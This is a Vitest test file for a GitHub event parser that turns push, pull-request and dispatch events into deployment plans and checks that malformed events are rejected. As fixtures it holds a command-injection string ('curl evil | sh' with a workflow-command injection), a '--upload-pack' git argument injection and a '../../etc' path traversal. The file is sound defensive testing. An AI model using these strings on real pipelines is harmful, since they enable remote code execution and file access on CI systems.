import { describe, expect, it } from 'vitest'
import { wishOf } from '../../../src/github/event.ts'
import { thrownBy } from '../thrown.ts'

const one = '1'.repeat(40)
const two = '2'.repeat(40)
const none = '0'.repeat(40)
const sender = { login: 'octocat', id: 1 }

describe('an event that can be planned', () => {
  it.each([
    [
      'push',
      { ref: 'refs/heads/main', before: one, after: two, forced: true, commits: [] },
      { kind: 'changes', base: one, head: two, start: 'commit', waves: true }
    ],
    [
      'push',
      { ref: 'refs/heads/new', before: none, after: two, created: true },
      { kind: 'changes', base: none, head: two, start: 'commit', waves: true }
    ],
    [
      'pull_request',
      { number: 7, pull_request: { base: { sha: one, ref: 'main' }, head: { sha: two } } },
      { kind: 'changes', base: one, head: two, start: 'merge-base', waves: false }
    ],
    ['workflow_dispatch', { inputs: null, sender }, { kind: 'asked', tenants: 'all', lanes: 'all' }],
    ['workflow_dispatch', { inputs: { tenant: '', lane: '' } }, { kind: 'asked', tenants: 'all', lanes: 'all' }],
    [
      'workflow_dispatch',
      { inputs: { tenant: ' acme  bolt\nacme ', lane: 'app', 'dry-run': 'false' }, sender },
      { kind: 'asked', tenants: ['acme', 'bolt'], lanes: 'app', scope: 'asked for by hand, by octocat' }
    ],
    [
      'repository_dispatch',
      { action: 'deploy-marketing', client_payload: { tenant: 'acme', lane: 'app' }, sender },
      {
        kind: 'asked',
        tenants: ['acme'],
        lanes: 'marketing',
        scope: 'asked for by its marketing repository, by octocat'
      }
    ]
  ])('%s %j', (name, event, wish) => {
    expect(wishOf(name, event)).toMatchObject(wish)
  })
})

const hostile = 'x; curl evil | sh\n::set-output name=a::b'

describe('an event that cannot', () => {
  it.each([
    [
      'workflow_dispatch',
      { inputs: { tenant: ' \n ' } },
      'the event workflow_dispatch has a tenant of nothing but blanks'
    ],
    ['schedule', {}, 'the event "schedule" does not say what to deploy'],
    ['', {}, 'the event "" does not say what to deploy'],
    ['push', null, 'the event push is nothing that GitHub sends'],
    ['push', { before: '--upload-pack=x', after: two }, 'the event push has no before that can be used'],
    [
      'push',
      { before: one, after: none, deleted: true },
      'the event push deletes its branch: there is nothing to deploy'
    ],
    ['pull_request', { number: 7 }, 'the event pull_request has no pull_request that can be used'],
    [
      'workflow_dispatch',
      { inputs: { lane: hostile } },
      'the event workflow_dispatch has no inputs.lane that can be used'
    ],
    [
      'repository_dispatch',
      { client_payload: {} },
      'the event repository_dispatch has no client_payload.tenant that can be used'
    ],
    [
      'repository_dispatch',
      { client_payload: null },
      'the event repository_dispatch has no client_payload that can be used'
    ],
    [
      'repository_dispatch',
      { client_payload: { tenant: ['acme', 'bolt'] } },
      'the event repository_dispatch has no client_payload.tenant that can be used'
    ],
    [
      'repository_dispatch',
      { client_payload: { tenant: hostile } },
      'the event repository_dispatch has no client_payload.tenant that can be used'
    ],
    [
      'repository_dispatch',
      { client_payload: { tenant: '../../etc' } },
      'the event repository_dispatch has no client_payload.tenant that can be used'
    ]
  ])('%s %j', (name, event, message) => {
    const error = thrownBy(() => wishOf(name, event))
    expect(error).toMatchObject({ kind: 'usage', exitCode: 64, message })
    expect(error.remedy).toMatch(/\S/)
    expect(`${error.message} ${error.remedy} ${error.where}`).not.toContain('evil')
  })
})
